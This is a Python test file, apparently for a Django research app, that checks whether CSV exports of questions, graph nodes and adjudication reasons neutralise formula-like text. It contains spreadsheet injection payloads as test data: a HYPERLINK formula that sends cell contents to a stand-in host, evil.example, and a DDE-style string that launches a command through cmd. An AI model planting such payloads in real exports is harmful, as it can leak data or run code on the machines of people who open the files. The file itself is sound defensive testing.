"""Issue 17 item 7: text that reaches a CSV export (statement and question ids and texts, node
text, adjudication reasons) is neutralised when it starts like a spreadsheet formula. Each export
route gets data through the production import / run / adjudication paths."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from accounts.services import role_groups_sync, user_create_with_role
from annotation.models import Item
from annotation.queue import operations as queue
from annotation.services.campaigns import adjudication_record, campaign_create, campaign_status_set
from commonsense.io.csv_safe import FORMULA_STARTS, safe_cell
from knowledge.models import QuestionSet
from knowledge.services.imports import graph_import, questions_import
from runs.evaluation import run_execute
from runs.services import run_create

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_safe_cell_prefixes_formula_text_only() -> None:
    for text in [PAYLOAD, *OTHERS]:
        assert safe_cell(text) == "'" + text
    assert safe_cell("a plain answer") == "a plain answer"
    assert safe_cell(-0.25) == -0.25
    assert safe_cell(3) == 3
    assert safe_cell(None) is None


def _cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode())) for c in row]


def _assert_neutral(body: bytes, *expected: str) -> None:
    cells = _cells(body)
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not dangerous, dangerous
    for text in expected:
        assert any(text in c for c in cells), text


@pytest.fixture
def researcher_client(client):  # type: ignore[no-untyped-def]
    role_groups_sync()
    user = user_create_with_role("csv-res", "researcher", "pw-long-enough-123")
    client.force_login(user)
    client.user = user
    return client


def _csqa(tmp_path: Path) -> Path:
    rows = [
        {
            "id": PAYLOAD,
            "question": PAYLOAD,
            "choices": {"label": list("ABCDE"), "text": [*OTHERS[:3], "fine", "@x"]},
            "answerKey": "A",
        },
        {
            "id": "q2",
            "question": "-where?",
            "choices": {"label": list("ABCDE"), "text": list("vwxyz")},
            "answerKey": "B",
        },
    ]
    p = tmp_path / "evil.jsonl"
    p.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return p


def test_run_predictions_csv_is_neutralised(researcher_client, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    questions_import(_csqa(tmp_path), name="evil-set", fmt="csqa")
    run = run_create(set_name="evil-set", backend="random", scoring="loglik", enqueue=False)
    assert run_execute(run.pk, heartbeat=False) == "done"
    r = researcher_client.get(f"/runs/{run.pk}/predictions.csv")
    assert r.status_code == 200
    body = b"".join(r.streaming_content)
    _assert_neutral(body, "'" + PAYLOAD)


def test_explorer_chart_csv_is_neutralised(researcher_client, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    tsv = tmp_path / "evil.tsv"
    tsv.write_text(f"{PAYLOAD}\txWant\tto go home\n{PAYLOAD}\txNeed\t@SUM(A1)\n")
    graph_import(tsv, name="evil-graph", fmt="atomic-tsv")
    r = researcher_client.get("/explorer/graphs/evil-graph/?csv=top-nodes")
    assert r.status_code == 200
    assert r["Content-Type"].startswith("text/csv")
    _assert_neutral(r.content, "'" + PAYLOAD, "'@SUM(A1)")


def test_campaign_csv_export_is_neutralised(researcher_client, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    questions_import(_csqa(tmp_path), name="evil-set2", fmt="csqa")
    qset = QuestionSet.objects.get(name="evil-set2")
    campaign = campaign_status_set(
        campaign_create(
            name="evil-c", title="Evil", kind="mcqa", question_set=qset, redundancy=1, user=researcher_client.user
        ),
        "open",
    )
    annotator = user_create_with_role("csv-ann", "annotator", "pw-long-enough-123")
    step = queue.next_step(campaign, annotator)
    assert step.assignment is not None
    queue.response_submit(
        step.assignment.item, annotator, {"plausible": [0], "none_correct": False, "bad_context": False}
    )
    item = Item.objects.filter(campaign=campaign, role=Item.Role.REGULAR).first()
    admin = user_create_with_role("csv-adm", "admin", "pw-long-enough-123")
    adjudication_record(
        item, label={"plausible": [1], "none_correct": False, "bad_context": False}, reason=OTHERS[0], user=admin
    )
    researcher_client.force_login(admin)
    r = researcher_client.get(f"/annotation/c/{campaign.name}/export.csv")
    assert r.status_code == 200, r.content[:300]
    _assert_neutral(r.content, "'" + OTHERS[0])


def test_question_set_csv_export_is_neutralised(tmp_path: Path) -> None:
    from knowledge.services.set_exports import question_set_export_file

    questions_import(_csqa(tmp_path), name="evil-set3", fmt="csqa")
    out = question_set_export_file("evil-set3", "csv", tmp_path / "out.csv")
    _assert_neutral(out.read_bytes(), "'" + PAYLOAD, "'-where?")
